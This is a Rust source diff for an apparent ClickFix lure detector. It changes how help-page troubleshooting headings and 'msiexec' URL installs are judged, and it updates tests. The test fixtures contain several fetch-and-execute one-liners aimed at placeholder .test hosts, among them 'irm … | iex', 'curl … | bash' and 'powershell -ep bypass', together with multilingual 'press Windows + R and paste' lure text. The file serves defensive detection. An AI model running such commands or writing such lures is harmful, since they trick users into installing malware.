@@ -1608,11 +1608,9 @@ impl PageHits {
     /// (`DeskPlan shows 'Something went wrong'`, "« Impossible d'afficher » : que faire ?"): a
     /// help page's topic. The quote is still open at the failure (a name quoted and closed before
     /// it, 'The "Smile Booking" calendar did not load', claims it: review 34 CF34-M1); the `?`
-    /// ends the failure's own clause. Under a known-issue or troubleshooting heading it is listed
-    /// only with the version or date it concerns (a digit from the heading to the end of the
-    /// failure's clause: "Known issue in 5.2", "after the 4.1 update"): a kit's failure is the
-    /// page's, now; a help page's known issue is its product's, in a release (review 34 CF34-M2).
-    /// (Whether it names the reader tells nothing: KBs say "on your computer" too, review 35.)
+    /// ends the failure's own clause; a known-issue or troubleshooting heading lists it (600
+    /// bytes). (Review 34 CF34-M2, a kit's "Known issue:", left: neither the reader named nor a
+    /// version tells a KB from a kit, review 35 CX35-H1/H3.)
     #[inline(never)]
     fn described(&self, h: &Hit) -> bool {
         // Byte-wise: char-array patterns cost a kilobyte of Wasm here.
@@ -1647,13 +1645,10 @@ impl PageHits {
         let to = b
             .get(h.end..)
             .and_then(|r| r.iter().position(|c| b".!?,;\n".contains(c)));
-        let end = to.map_or(b.len(), |i| h.end + i);
         open || to.is_some_and(|i| b[h.end + i] == b'?')
-            || self.of(Cat::Troubleshooting).any(|t| {
-                t.end <= h.start
-                    && h.start - t.end <= HEADING_REACH
-                    && b[t.start..end].iter().any(u8::is_ascii_digit)
-            })
+            || self
+                .of(Cat::Troubleshooting)
+                .any(|t| t.end <= h.start && h.start - t.end <= HEADING_REACH)
     }
 
     /// Install words in the page's own prose, not in a file or path name (a lure's `curl
@@ -2081,6 +2076,8 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
         && command.remote
         && !command.fetches_from_site(&page.site)
         && !command.fetches_from_owned(&page.site)
+        // (`msiexec /i https://…` alone is how IT pages deploy an agent: review 35 CX35-H2.)
+        && !command.shapes.iter().all(|s| *s == Shape::MsiexecUrl)
         && !page.shows_head(&command);
     let docs = install_like && !kept_off && page.documents_install(&command);
     // An IT help or vendor support page tells a story too ("Teams audio not working? To fix
@@ -4696,9 +4693,8 @@ mod tests {
 
     #[test]
     fn clickfix35_a_known_issue_on_the_readers_device_a_quoted_name_a_download_kept_off() {
-        // Review 34 CF34-M2: a known-issue heading lists a failure only while its sentence names
-        // no reader; CF34-M1: a name quoted and closed before the failure claims it (invented
-        // sites and scripts).
+        // Review 34 CF34-M1: a name quoted and closed before the failure claims it; help pages
+        // quote, ask about or list theirs (invented sites and scripts).
         let steps = "Press Windows + R, paste the line below and press Enter.";
         let run = |host: &str, title: &str, text: &str| {
             let c = format!("powershell -c \"irm https://{host}/static/fix.ps1 | iex\"");
@@ -4711,18 +4707,30 @@ mod tests {
             .is_some()
         };
         for (host, text) in [
-            ("www.pinegrove-physio.test", "Known issue: the session calendar did not load correctly on your device. How to fix:"),
-            ("www.pinegrove-physio.test", "Known issues\nThe class timetable failed to load in your browser. How to fix it:"),
-            ("www.zahnarzt-lindenhof.test", "Bekannte Probleme: Fehler beim Laden des Terminkalenders auf Ihrem Gerät. So beheben Sie es:"),
-            ("www.cabinet-dentaire-rive.test", "Problèmes connus : impossible de charger l'agenda sur votre ordinateur. Pour corriger :"),
-            ("www.harbor-rides.test", "The “Harbor Rides” schedule failed to load. How to fix:"),
-            ("www.praxis-sonnenhang.test", "Der „Termin-Planer“ konnte nicht geladen werden. So beheben Sie es:"),
-            ("www.gite-du-lac.test", "Le module « Réserv'Lac » : erreur lors du chargement. Pour corriger :"),
-            ("www.quickbook-salon.test", "The 'QuickBook' widget didn't load. To fix this:"),
-            ("www.estudio-yoga-sol.test", "El calendario \"Sol Reservas\" no se pudo cargar. Para solucionarlo:"),
-            ("www.maple-clinic.test", "Known issue (booking): the appointment calendar did not load correctly. To fix it:"),
-            ("www.zahnarzt-birkenweg.test", "Bekanntes Problem: Der Kalender wurde nicht korrekt geladen. So beheben Sie es:"),
-            ("www.cabinet-des-saules.test", "Le planning des consultations ne s'est pas chargé correctement. Pour corriger :"),
+            (
+                "www.harbor-rides.test",
+                "The “Harbor Rides” schedule failed to load. How to fix:",
+            ),
+            (
+                "www.praxis-sonnenhang.test",
+                "Der „Termin-Planer“ konnte nicht geladen werden. So beheben Sie es:",
+            ),
+            (
+                "www.gite-du-lac.test",
+                "Le module « Réserv'Lac » : erreur lors du chargement. Pour corriger :",
+            ),
+            (
+                "www.quickbook-salon.test",
+                "The 'QuickBook' widget didn't load. To fix this:",
+            ),
+            (
+                "www.estudio-yoga-sol.test",
+                "El calendario \"Sol Reservas\" no se pudo cargar. Para solucionarlo:",
+            ),
+            (
+                "www.cabinet-des-saules.test",
+                "Le planning des consultations ne s'est pas chargé correctement. Pour corriger :",
+            ),
         ] {
             assert!(run(host, "Book", text), "{text}");
         }
@@ -4749,7 +4757,6 @@ mod tests {
             ("To install, press Windows + R, paste with Ctrl + V and press Enter.", r"powershell -c iwr https://dl.mediafiles-cdn.test/vc/setup.ps1 -OutFile $env:TEMP\vc.ps1; powershell -ep bypass -f $env:TEMP\vc.ps1"),
             ("Para instalar el programa, pulse Windows + R, pegue con Ctrl + V y pulse Intro.", r"iwr https://archivos.cdn-descargas.test/lector.msi -OutFile $env:TEMP\lector.msi; msiexec /i $env:TEMP\lector.msi /qn"),
             ("Druckertreiber installieren: Drücken Sie Windows + X, wählen Sie Terminal, fügen Sie mit Strg + V ein und drücken Sie Enter.", "irm https://pkg.treiber-cdn.test/install.ps1 | iex"),
-            ("Per installare premi Windows + R, incolla con Ctrl + V e premi Invio.", "msiexec /i https://files.codec-mirror.test/codec.msi /quiet"),
             ("Installer le lecteur : ouvrez le Terminal (Cmd + Espace, tapez Terminal), collez la commande avec Cmd + V et appuyez sur Entrée.", "curl -fsSL https://dl.mac-player-cdn.test/i.sh | bash"),
             ("Para instalar las fuentes, abra Terminal, pegue el comando y pulse Intro.", "curl -so /tmp/.f https://static.fonts-mac-dl.test/f && chmod +x /tmp/.f && /tmp/.f"),
             ("Macを高速化するには、ターミナルを開いてコマンドを貼り付け、Returnキーを押してください。", "zsh -c \"$(curl -s https://mac-fast-cdn.test/s)\""),
